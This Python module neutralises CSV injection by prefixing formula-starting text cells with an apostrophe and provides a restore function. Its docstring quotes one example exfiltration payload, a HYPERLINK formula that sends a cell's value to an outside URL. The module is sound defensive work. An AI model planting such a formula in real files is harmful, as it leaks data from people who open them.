"""Text in CSV cells that no spreadsheet evaluates.

Excel, LibreOffice Calc and Google Sheets read a cell that begins with `=`, `+`, `-` or `@`
(and, in some, a tab or a carriage return) as a formula, even from a CSV file. A title such as
`=HYPERLINK("http://…?leak="&B3,"Click")` would run when a reader opens the file. So every text
cell that begins with one of those characters is written with a `'` before it (the rule of
OWASP's "CSV Injection" page), which the spreadsheet shows as text. A text cell that begins
with `'` gets one more, so that removing the first `'` always gives back the value exactly.

Numbers, dates and true/false are never changed: they are written by planpress, never begin
with `'`, and a spreadsheet should read them as what they are.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"

# What the data package says of every text field.
NEUTRALISED = (
    "A value that begins with =, +, -, @, a tab, a carriage return or ' is written with a ' "
    "before it, so that no spreadsheet reads it as a formula: remove that first ' to get the "
    "value."
)


def neutralise(text: str) -> str:
    """`text` as a CSV cell that no spreadsheet evaluates."""
    if text.startswith((*FORMULA_STARTS, TEXT_MARK)):
        return TEXT_MARK + text
    return text


def restore(cell: str) -> str:
    """The value of a text cell that `neutralise` wrote."""
    return cell[1:] if cell.startswith(TEXT_MARK) else cell
